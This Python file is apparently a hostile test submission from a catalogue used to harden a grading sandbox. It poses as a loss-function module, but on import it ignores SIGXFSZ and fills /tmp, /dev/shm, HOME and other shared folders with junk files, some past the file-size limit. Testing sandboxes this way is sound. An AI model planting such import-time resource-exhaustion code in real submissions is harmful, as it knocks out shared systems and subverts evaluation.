"""Hostile submission (gradverify attack catalogue): leave files in the shared folders and fill them.

Up to 80 MB in 15 MB files per folder (/tmp, /var/tmp, /dev/shm, HOME, the working folder),
and one file larger than the file-size limit, with SIGXFSZ ignored.
"""

import os
import signal

import numpy as np

BLOCK = b"\0" * (1 << 20)
FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd())


def _fill():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for folder in FOLDERS:
        written = 0
        for i in range(6):
            try:
                with open(os.path.join(folder, f"gvattack-fill-{i}"), "wb") as handle:
                    for _ in range(15):
                        handle.write(BLOCK)
                        written += 1
            except OSError:
                break
        if written:
            print(f"wrote {written} MB in {folder}")
    for folder in FOLDERS:
        try:
            with open(os.path.join(folder, "gvattack-huge"), "wb") as handle:
                for _ in range(20):
                    handle.write(BLOCK)
            print("ATTACK-SUCCEEDED: a file of 20 MB, past the file-size limit, in", folder)
        except OSError:
            pass


_fill()


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
